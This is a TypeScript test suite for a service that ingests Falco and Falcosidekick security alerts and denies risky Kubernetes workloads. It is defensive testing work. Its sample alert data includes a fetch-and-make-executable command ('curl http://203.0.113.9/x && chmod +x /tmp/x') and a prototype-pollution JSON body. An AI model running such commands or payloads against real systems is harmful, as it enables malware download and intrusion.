/**
 * Independent audit of Falco alert ingestion against the real upstream formats (see payloads.ts for the upstream files
 * each payload was built from). Every test runs a real trustgate server (HTTP ingest + gRPC Checks) with the static
 * mapping over the example inventory (order, payment in `services`; web in `frontend`; database, cache in `data`) and
 * the mesh-wide policy "deny callers at high or critical risk", unless it says otherwise.
 */
import { afterEach, describe, expect, it } from "vitest";
import { FALCO_TOKEN, ID, type RiskTestServer, startRiskServer } from "../../authz-server/test/support/risk-server.js";
import { type KubeApiServer, startKubeApiServer } from "../support/kube-api-server.js";
import {
  type Alert,
  CLOUDTRAIL_CONSOLE_LOGIN,
  DROP_EXEC_IN_ORDER,
  falcoBody,
  falcoTime,
  INTERNAL_DROPS,
  LEGACY_SHELL_IN_ORDER,
  MEMFD_ON_HOST,
  METRICS_SNAPSHOT,
  PRIVILEGED_POD_BY_PAYMENT,
  REVERSE_SHELL_IN_PAYMENT,
  sidekickBody,
  withFields,
  withTime,
} from "./payloads.js";

let server: RiskTestServer | null = null;
let api: KubeApiServer | null = null;

afterEach(async () => {
  await server?.close();
  server = null;
  await api?.stop();
  api = null;
});

interface AlertView {
  rule: string;
  priority: string;
  time: string;
  count: number;
  weight: number;
  active: boolean;
}
interface IdentityView {
  level: string;
  highestAlert: string;
  score: number;
  explanation: string;
  alerts?: AlertView[];
}

async function view(s: RiskTestServer, id: string): Promise<IdentityView> {
  return (await s.risk(`?id=${encodeURIComponent(id)}`)).identity as IdentityView;
}

async function metrics(s: RiskTestServer): Promise<string> {
  return (await fetch(`${s.httpUrl}/metrics`)).text();
}

/** The other workloads an alert must not touch. */
async function expectUntouched(s: RiskTestServer, ...ids: string[]): Promise<void> {
  for (const id of ids) {
    const v = await view(s, id);
    expect(v.level, `${id} level`).toBe("low");
    expect(v.alerts ?? [], `${id} alerts`).toEqual([]);
  }
}

/** A Falco time on a whole second (nine zero digits), which Falcosidekick re-encodes without a fraction. */
function wholeSecondTime(): string {
  const ms = Math.floor(Date.now() / 1000) * 1000;
  return new Date(ms).toISOString().replace(/\.\d{3}Z$/, ".000000000Z");
}

/* ================================================================================================================ */

describe("Falco http_output (json_output: true), Falco >= 0.41 with the container plugin's suggested fields", () => {
  it("accepts a real Critical alert posted with ?token=, attributes it to order, and the next Check is denied", async () => {
    server = await startRiskServer();
    const time = falcoTime();
    const r = await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, time)), {
      token: null,
      query: `?token=${encodeURIComponent(FALCO_TOKEN)}`,
    });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 1, mapped: 1, unattributed: 0, attributions: 1, identities: [ID.order] });
    const verdict = await server.check(ID.order);
    expect(verdict.allowed).toBe(false);
    expect(verdict.reason).toContain(`Falco "Drop and execute new binary in container" (Critical, ${time})`);
    expect((await server.check(ID.payment, { destination: "billing" })).allowed).toBe(true);
    await expectUntouched(server, ID.payment, ID.web);
  });

  it("reads the priority in any case (rules files write CRITICAL; Falco prints Critical; Info is Falco's alias)", async () => {
    server = await startRiskServer();
    const order = await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime(), { priority: "CRITICAL" })));
    expect(order.status).toBe(200);
    const payment = await server.post(
      falcoBody(withTime(REVERSE_SHELL_IN_PAYMENT, falcoTime(), { priority: "critical" })),
    );
    expect(payment.status).toBe(200);
    expect((await server.check(ID.order)).allowed).toBe(false);
    expect((await server.check(ID.payment, { destination: "billing" })).allowed).toBe(false);
    expect((await view(server, ID.order)).highestAlert).toBe("critical");
    for (const p of ["Informational", "INFORMATIONAL", "Info", "info", "Debug", "EMERGENCY"]) {
      const r = await server.post(falcoBody(withTime(METRICS_SNAPSHOT, falcoTime(), { priority: p })));
      expect(r.status, p).toBe(200);
    }
  });

  it("keeps nine fractional digits, big-integer evt.time, null and <NA> fields, numbers and bracketed keys", async () => {
    server = await startRiskServer();
    const time = falcoTime(0, "999999");
    const alert = withFields(withTime(REVERSE_SHELL_IN_PAYMENT, time, { priority: "Error" }), {
      "proc.aname[2]": "<NA>",
      "proc.aname[3]": null,
    });
    // Falco's evt.time as nlohmann writes a uint64 (beyond 2^53): JSON.parse rounds it, which must not matter.
    const body = falcoBody(alert).replace(/"evt\.time":\d+/, '"evt.time":18446744073709551615');
    expect(body).toContain('"evt.time":18446744073709551615');
    const r = await server.post(body);
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.payment] });
    const v = await view(server, ID.payment);
    expect(v.alerts?.[0]).toMatchObject({ time, priority: "Error", weight: 20 });
    expect(v.level).toBe("medium");
  });

  it("attributes a host process (container.id/name 'host', k8s fields null) to nobody", async () => {
    server = await startRiskServer();
    const r = await server.post(falcoBody(withTime(MEMFD_ON_HOST, falcoTime())));
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 1, mapped: 0, unattributed: 1, attributions: 0, identities: [] });
    expect(await metrics(server)).toContain('trustgate_falco_unattributed_alerts_total{reason="unknown-workload"} 1');
    for (const id of [ID.order, ID.payment, ID.web, ID.database]) {
      expect((await server.check(id, { destination: "billing" })).allowed, id).toBe(true);
    }
  });

  it("attributes to nobody an alert raised before the container plugin enriched it (only container.id known)", async () => {
    server = await startRiskServer();
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), {
      "container.name": "",
      "container.image.repository": "",
      "container.image.tag": "",
      "k8s.ns.name": null,
      "k8s.pod.name": null,
    });
    const r = await server.post(falcoBody(alert));
    expect(r.body).toMatchObject({ mapped: 0, unattributed: 1 });
    expect((await server.check(ID.order)).allowed).toBe(true);
  });

  it("accepts Falco 0.3x alerts (no source, no hostname; %container.info and -pk fields) as syscall alerts", async () => {
    server = await startRiskServer({ risk: { sourceWeights: { syscall: 2, k8s_audit: 1 } } });
    const r = await server.post(falcoBody(withTime(LEGACY_SHELL_IN_ORDER, falcoTime())));
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    // Warning (10) × syscall weight 2 = 20: the alert counted as a syscall alert.
    expect((await view(server, ID.order)).alerts?.[0]?.weight).toBe(20);
  });

  it("maps a dockershim-era container name (k8s_<container>_<pod>_<ns>_<uid>_<n>) through the pod name", async () => {
    server = await startRiskServer();
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), {
      "container.name": "k8s_order_order-7c9f8d6b5-x2x4q_services_4b0c1a9e-2f3d-4e5f-8a9b-0c1d2e3f4a5b_0",
    });
    const r = await server.post(falcoBody(alert));
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
  });

  it("never adds risk for internal alerts, even Critical ones naming a container; the snapshot is a heartbeat", async () => {
    server = await startRiskServer();
    const body = [
      falcoBody(withTime(METRICS_SNAPSHOT, falcoTime())),
      falcoBody(withTime(INTERNAL_DROPS, falcoTime())),
    ].join("\n");
    const r = await server.post(body);
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 2, internal: 2, heartbeats: 1, mapped: 0, attributions: 0 });
    expect((await server.check(ID.order)).allowed).toBe(true);
    expect(((await server.risk()).feed as { state: string }).state).toBe("fresh");
  });

  it("accepts plugin sources (aws_cloudtrail) as feed activity, attributed to nobody", async () => {
    server = await startRiskServer();
    const r = await server.post(falcoBody(withTime(CLOUDTRAIL_CONSOLE_LOGIN, falcoTime())));
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 1, mapped: 0, unattributed: 1 });
    expect(((await server.risk()).feed as { state: string }).state).toBe("fresh");
    expect(((await server.risk()).identities as unknown[]).length).toBe(0);
  });

  it("counts a k8s_audit alert (array-valued fields, string response code) against the service-account caller", async () => {
    server = await startRiskServer();
    const r = await server.post(falcoBody(withTime(PRIVILEGED_POD_BY_PAYMENT, falcoTime())));
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.payment] });
    expect((await view(server, ID.payment)).level).toBe("medium");
  });

  it("counts an alert whose time lags by hours (a backed-up Falco) as fresh news", async () => {
    server = await startRiskServer();
    const time = falcoTime(-2 * 3600_000);
    await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, time)));
    expect((await server.check(ID.order)).allowed).toBe(false);
  });
});

/* ================================================================================================================ */

describe("Falcosidekick webhook (Go re-encoding of Falco's alert)", () => {
  it("accepts the Go-encoded body (\\u003cNA\\u003e, \\u0026, trimmed RFC3339Nano time, uuid, custom fields)", async () => {
    server = await startRiskServer();
    const time = wholeSecondTime();
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, time), {
      "proc.cmdline": "sh -c curl http://203.0.113.9/x && chmod +x /tmp/x",
      "proc.aname[2]": "<NA>",
      // Falcosidekick customfields (config.Customfields) are added to output_fields
      environment: "production",
      cluster: "eu-1",
    });
    const body = sidekickBody(alert, "0e7f9a3c-5d1b-4c2e-9f8a-7b6c5d4e3f2a");
    expect(body).toContain('"time":"');
    expect(body).toContain("\\u003cNA\\u003e");
    expect(body).not.toMatch(/\.0+Z"/);
    const r = await server.post(body, { contentType: "application/json" });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    const denied = await server.check(ID.order);
    expect(denied.allowed).toBe(false);
    // The time as received (Falcosidekick's form)
    expect(denied.reason).toContain(`(Critical, ${time.replace(".000000000Z", "Z")})`);
  });

  it("accepts the webhook sent with PUT (Falcosidekick's webhook.method), on the admin and the ingest listener", async () => {
    server = await startRiskServer({ falco: { ingest: { addr: "127.0.0.1:0" } } });
    const body = sidekickBody(withTime(DROP_EXEC_IN_ORDER, falcoTime()), "21212121-2222-4333-8444-555555555555");
    const r = await server.post(body, { method: "PUT" });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    expect((await server.check(ID.order)).allowed).toBe(false);
    const ingest = server.server.risk.ingestAddress();
    expect(ingest).toBeTruthy();
    const viaIngest = await fetch(`http://${ingest}/v1/falco`, {
      method: "PUT",
      headers: { "content-type": "application/json", authorization: `Bearer ${FALCO_TOKEN}` },
      body: sidekickBody(withTime(REVERSE_SHELL_IN_PAYMENT, falcoTime()), "31313131-2222-4333-8444-555555555555"),
    });
    expect(viaIngest.status).toBe(200);
    // Other methods still get 405 naming what is allowed.
    const get = await server.post("", { method: "DELETE" });
    expect(get.status).toBe(405);
    expect(get.headers.get("allow")).toBe("POST, PUT");
  });

  it("applies a resent uuid once, and coalesces a repeat (new uuid) within the dedup window", async () => {
    server = await startRiskServer();
    const alert = withTime(REVERSE_SHELL_IN_PAYMENT, falcoTime(), { priority: "Warning" });
    const body = sidekickBody(alert, "11111111-2222-4333-8444-555555555555");
    expect((await server.post(body)).status).toBe(200);
    expect((await server.post(body)).status).toBe(200);
    let v = await view(server, ID.payment);
    expect(v.alerts).toHaveLength(1);
    expect(v.alerts?.[0]?.count).toBe(1);
    expect(v.score).toBeCloseTo(10, 0);
    await server.post(sidekickBody(withTime(alert, falcoTime(1000)), "66666666-7777-4888-9999-aaaaaaaaaaaa"));
    v = await view(server, ID.payment);
    expect(v.alerts).toHaveLength(1);
    expect(v.alerts?.[0]?.count).toBe(2);
  });

  it("treats Falcosidekick's test event (rule 'Test rule' → source internal) as internal", async () => {
    server = await startRiskServer();
    const test: Alert = {
      output: "This is a test from falcosidekick",
      priority: "Debug",
      rule: "Test rule",
      time: new Date().toISOString().replace(/\.\d{3}Z$/, "Z"),
      output_fields: { "proc.name": "falcosidekick", "user.name": "falcosidekick" },
      source: "debug",
      tags: ["test", "example"],
      hostname: "falcosidekick",
    };
    const r = await server.post(sidekickBody(test, "9b2c3d4e-5f60-4a7b-8c9d-0e1f2a3b4c5d"));
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 1, internal: 1, mapped: 0 });
  });

  it("accepts an old Falco's alert through Falcosidekick (source 'syscalls', hostname omitted)", async () => {
    server = await startRiskServer({ risk: { sourceWeights: { syscall: 2 } } });
    const r = await server.post(
      sidekickBody(withTime(LEGACY_SHELL_IN_ORDER, falcoTime()), "abcdefab-1234-4cde-8f01-23456789abcd"),
    );
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    expect((await view(server, ID.order)).alerts?.[0]?.weight).toBe(20);
  });
});

/* ================================================================================================================ */

describe("batches (JSON Lines: a replayed file_output, a batching forwarder)", () => {
  it("applies every alert of a mixed batch, with LF or CRLF line ends", async () => {
    server = await startRiskServer();
    const lines = [
      falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime())),
      falcoBody(withTime(REVERSE_SHELL_IN_PAYMENT, falcoTime())),
      falcoBody(withTime(MEMFD_ON_HOST, falcoTime())),
      falcoBody(withTime(METRICS_SNAPSHOT, falcoTime())),
    ];
    const r = await server.post(`${lines.join("\r\n")}\r\n`, { contentType: "application/x-ndjson" });
    expect(r.status).toBe(200);
    expect(r.body).toEqual({
      accepted: 4,
      mapped: 2,
      unattributed: 1,
      internal: 1,
      heartbeats: 1,
      attributions: 2,
      identities: [ID.order, ID.payment],
    });
  });
});

/* ================================================================================================================ */

describe("hostile and odd alerts", () => {
  it("a lower-priority alert about the same container (same rule) never lowers a Critical", async () => {
    server = await startRiskServer();
    await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime())));
    await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime(500), { priority: "Notice" })));
    await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime(900), { priority: "Debug" })));
    await server.post(falcoBody(withTime(LEGACY_SHELL_IN_ORDER, falcoTime(1000), { priority: "Informational" })));
    const v = await view(server, ID.order);
    expect(v.level).toBe("critical");
    expect(v.highestAlert).toBe("critical");
    expect((await server.check(ID.order)).allowed).toBe(false);
  });

  it("a Critical after a lower-priority repeat of the same rule and container is not coalesced away", async () => {
    server = await startRiskServer();
    await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime(), { priority: "Notice" })));
    await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime(200))));
    expect((await view(server, ID.order)).highestAlert).toBe("critical");
    expect((await server.check(ID.order)).allowed).toBe(false);
  });

  it("a workload naming its container 'host' does not shed its alerts (its pod still names it)", async () => {
    server = await startRiskServer();
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), { "container.name": "host" });
    const r = await server.post(falcoBody(alert));
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
  });

  it("an attacker's container in another namespace, named after payment's container, does not pin risk on payment", async () => {
    // Falco reports the attacker's own namespace and pod (from the container runtime): the inventory says payment
    // runs in namespace services, so a container called "payment" in namespace sandbox is not payment.
    server = await startRiskServer();
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), {
      "container.name": "payment",
      "container.image.repository": "docker.io/library/alpine",
      "container.image.tag": "3.20",
      "k8s.ns.name": "sandbox",
      "k8s.pod.name": "evil-5d9f7c-abcde",
    });
    const r = await server.post(falcoBody(alert));
    expect(r.status).toBe(200);
    expect(r.body.identities).not.toContain(ID.payment);
    expect((await server.check(ID.payment, { destination: "billing" })).allowed).toBe(true);
  });

  it("an attacker's pod in another namespace, named with payment's pod prefix, does not pin risk on payment", async () => {
    server = await startRiskServer();
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), {
      "container.name": "app",
      "container.image.repository": "docker.io/library/alpine",
      "container.image.tag": "3.20",
      "k8s.ns.name": "sandbox",
      "k8s.pod.name": "payment-6d5c4b3a2-evil1",
    });
    const r = await server.post(falcoBody(alert));
    expect(r.status).toBe(200);
    expect(r.body.identities).not.toContain(ID.payment);
    expect((await server.check(ID.payment, { destination: "billing" })).allowed).toBe(true);
  });

  it("duplicate keys are read as Falcosidekick's Go decoder reads them (the last one), never as two workloads", async () => {
    server = await startRiskServer();
    const time = falcoTime();
    const fields = JSON.stringify(DROP_EXEC_IN_ORDER.output_fields).replace(
      '"container.name":"order"',
      '"container.name":"order","container.name":"payment","k8s.pod.name":"payment-6d5c4b3a2-k9j8h"',
    );
    const body = `{"hostname":"n","output":"x","output_fields":${fields.replace(/"k8s\.pod\.name":"order-[^"]*",?/, "")},"priority":"Notice","priority":"Critical","rule":"Drop and execute new binary in container","source":"syscall","tags":[],"time":"${time}"}`;
    const r = await server.post(body);
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.payment] });
    expect((await view(server, ID.payment)).highestAlert).toBe("critical");
    await expectUntouched(server, ID.order);
  });

  it("keys named __proto__ / constructor neither pollute nor steer the mapping", async () => {
    server = await startRiskServer();
    const time = falcoTime();
    const body = `{"__proto__":{"priority":"Emergency","output_fields":{"container.name":"web"}},"constructor":{"prototype":{"x":1}},"hostname":"n","output":"x","output_fields":{"__proto__":{"container.name":"payment"},"constructor":"database","container.id":"0c1d2e3f4a5b","k8s.pod.name":"order-7c9f8d6b5-x2x4q","k8s.ns.name":"services"},"priority":"Warning","rule":"Drop and execute new binary in container","source":"syscall","tags":["__proto__","constructor"],"time":"${time}"}`;
    const r = await server.post(body);
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    expect((await view(server, ID.order)).highestAlert).toBe("warning");
    await expectUntouched(server, ID.payment, ID.web, ID.database);
    expect(({} as Record<string, unknown>).priority).toBeUndefined();
  });

  it("accepts an enormous but in-limit output_fields (~900 KB, 12000 keys) and still decides promptly", async () => {
    server = await startRiskServer();
    const big: Record<string, unknown> = {};
    for (let i = 0; i < 12000; i++) big[`proc.env[VAR_${i}]`] = `value-${i}-${"x".repeat(30)}`;
    big["proc.cmdline"] = `sh -c ${"A".repeat(100_000)}`;
    const body = falcoBody(withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), big));
    expect(body.length).toBeGreaterThan(700_000);
    expect(body.length).toBeLessThan(1024 * 1024);
    const started = Date.now();
    const r = await server.post(body);
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    expect((await server.check(ID.order)).allowed).toBe(false);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it("refuses an alert over maxBodyBytes with 413, recording nothing, and takes the next one", async () => {
    server = await startRiskServer();
    const body = falcoBody(
      withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), { "proc.cmdline": "B".repeat(1100 * 1024) }),
    );
    const r = await server.post(body);
    expect(r.status).toBe(413);
    expect((await server.check(ID.order)).allowed).toBe(true);
    const next = await server.post(falcoBody(withTime(DROP_EXEC_IN_ORDER, falcoTime())));
    expect(next.status).toBe(200);
    expect((await server.check(ID.order)).allowed).toBe(false);
  });

  it("carries unicode (a localized custom rule, U+FFFD from Falco's UTF-8 sanitizing, RTL override) intact", async () => {
    server = await startRiskServer();
    const time = falcoTime();
    const rule = "Shell im Container geöffnet — 🐚 ☠ 日本語";
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, time, { rule }), {
      "proc.cmdline": "python3 -c 'print(\"\uFFFD\u202Egnp.exe\")' 😈",
      "user.name": "Ωmega",
    });
    const r = await server.post(falcoBody(alert));
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    const denied = await server.check(ID.order);
    expect(denied.allowed).toBe(false);
    expect(denied.reason).toContain(`Falco "${rule}" (Critical, ${time})`);
    // Falcosidekick's Go form of the same alert too
    const viaSidekick = await server.post(
      sidekickBody(withTime(alert, falcoTime(1)), "fedcba98-7654-4321-8fed-cba987654321"),
    );
    expect(viaSidekick.status).toBe(200);
  });

  it("a unicode look-alike of a container name maps to nobody", async () => {
    server = await startRiskServer();
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), {
      "container.name": "pаyment", // Cyrillic а
      "k8s.pod.name": null,
      "k8s.ns.name": null,
      "container.image.repository": null,
      "container.image.tag": null,
    });
    const r = await server.post(falcoBody(alert));
    expect(r.body).toMatchObject({ mapped: 0, unattributed: 1 });
    await expectUntouched(server, ID.payment);
  });
});

/* ================================================================================================================ */

describe("kubernetes mapping: real Kubernetes names that look like Falco's placeholders", () => {
  it("attributes an alert about a pod named 'host' (a valid pod name) to its service account", async () => {
    api = await startKubeApiServer();
    api.addPod({ namespace: "services", name: "host", serviceAccountName: "order" });
    api.addPod({ namespace: "services", name: "payment-6d5c4b3a2-k9j8h", serviceAccountName: "payment" });
    server = await startRiskServer({ falco: { mapping: { strategy: "kubernetes", kubeconfig: api.kubeconfigPath } } });
    // control: an ordinary pod name maps through the API
    const control = await server.post(falcoBody(withTime(REVERSE_SHELL_IN_PAYMENT, falcoTime())));
    expect(control.body).toMatchObject({ mapped: 1, identities: [ID.payment] });
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), {
      "container.name": "app",
      "k8s.ns.name": "services",
      "k8s.pod.name": "host",
    });
    const r = await server.post(falcoBody(alert));
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
    expect((await server.check(ID.order)).allowed).toBe(false);
  });

  it("attributes a k8s_audit exec into a pod named 'host' to that pod's workload", async () => {
    // plugins/k8saudit/rules/k8s_audit_rules.yaml "Attach/Exec Pod": ka.target.name / ka.target.namespace / subresource
    api = await startKubeApiServer();
    api.addPod({ namespace: "services", name: "host", serviceAccountName: "order" });
    server = await startRiskServer({ falco: { mapping: { strategy: "kubernetes", kubeconfig: api.kubeconfigPath } } });
    const exec: Alert = {
      hostname: "falco-k8saudit-7d9c6b5f4-m2x8p",
      output: "Attach/Exec to pod (user=alice pod=host resource=pods ns=services action=exec command=sh)",
      output_fields: {
        "evt.time": 1795861080000000000,
        "ka.target.name": "host",
        "ka.target.namespace": "services",
        "ka.target.resource": "pods",
        "ka.target.subresource": "exec",
        "ka.uri.param[command]": "sh",
        "ka.user.name": "alice",
      },
      priority: "Critical",
      rule: "Attach/Exec Pod",
      source: "k8s_audit",
      tags: ["k8s"],
      time: falcoTime(),
    };
    const r = await server.post(falcoBody(exec));
    expect(r.body).toMatchObject({ mapped: 1, identities: [ID.order] });
  });

  it("attributes an alert about a pod in a namespace named 'host' to its service account", async () => {
    api = await startKubeApiServer();
    api.addPod({ namespace: "host", name: "web-5f6d7c8b9-qwert", serviceAccountName: "web" });
    server = await startRiskServer({ falco: { mapping: { strategy: "kubernetes", kubeconfig: api.kubeconfigPath } } });
    const alert = withFields(withTime(DROP_EXEC_IN_ORDER, falcoTime()), {
      "container.name": "web",
      "k8s.ns.name": "host",
      "k8s.pod.name": "web-5f6d7c8b9-qwert",
    });
    const r = await server.post(falcoBody(alert));
    expect(r.body).toMatchObject({ mapped: 1, identities: ["spiffe://cluster.local/ns/host/sa/web"] });
  });
});
